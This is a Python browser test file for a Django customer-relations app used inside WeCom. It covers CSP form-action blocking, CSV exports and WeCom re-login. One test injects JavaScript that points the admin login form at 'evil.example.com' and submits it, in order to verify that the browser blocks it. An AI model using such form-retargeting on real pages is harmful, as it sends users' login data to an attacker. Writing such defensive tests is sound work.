"""Forms may only go to us (CSP form-action): ours do, with every redirect that answers them; others are not sent."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.contrib.sessions.models import Session
from playwright.sync_api import Browser, Page

from campaigns.models import Broadcast
from contacts.models import Customer
from scrm.base.models import AuditRecord, User
from tests.corp import Corp
from tests.site.platform_pages import WECOM

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

Open = Callable[..., Page]


@pytest.fixture
def inside_wecom(browser: Browser, server: str, corp: Corp, company: User, settings: Any) -> Iterator[Page]:
    """A window of WeCom's own browser. alice is 王磊."""
    settings.PUBLIC_URL = server
    User.objects.filter(pk=company.pk).update(wecom_userid="wanglei")
    context = browser.new_context(locale="zh-CN", user_agent=WECOM)
    yield context.new_page()
    context.close()


def test_a_form_that_leads_elsewhere_is_not_sent(browser: Browser, server: str, company: User) -> None:
    context = browser.new_context()
    page = context.new_page()
    sent: list[str] = []
    page.goto(f"{server}/admin/login/")
    page.on("request", lambda request: sent.append(request.url))

    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate(
            """() => { const form = document.forms[0]; form.action = 'http://evil.example.com/'; form.submit(); }"""
        )

    assert [url for url in sent if not url.startswith(f"{server}/static/")] == []
    assert page.url == f"{server}/admin/login/"
    context.close()


@pytest.mark.parametrize(
    "address", ["/admin/contacts/customer/?staff=wanglei", "/admin/campaigns/broadcast/{}/recipients/"]
)
def test_exports_arrive(open_page: Open, address: str) -> None:
    page = open_page(address.format(Broadcast.objects.exclude(plan_date=None).latest("pk").pk))
    with page.expect_download() as download:
        page.get_by_role("button", name="导出").first.click()

    assert download.value.suggested_filename.endswith(".csv")
    assert download.value.path().stat().st_size > 100


def test_signing_in_inside_wecom_also_when_a_form_finds_the_session_over(inside_wecom: Page, server: str) -> None:
    """The platform's page is not ours: whoever pressed a button must not be stopped on the way there."""
    customer = Customer.objects.get(external_userid="wmwanglei0")
    page, address = inside_wecom, f"{server}/admin/contacts/customer/{customer.pk}/change/"
    page.goto(address)
    page.get_by_role("link", name="王磊 (wanglei)").click()
    page.wait_for_url(address)
    Session.objects.all().delete()

    page.get_by_role("button", name="不再群发").click()
    page.get_by_role("link", name="王磊 (wanglei)").click()

    page.wait_for_url(address)
    assert (
        list(AuditRecord.objects.filter(deed="login.wecom").values_list("detail", flat=True))
        == [{"staff": "wanglei"}] * 2
    )
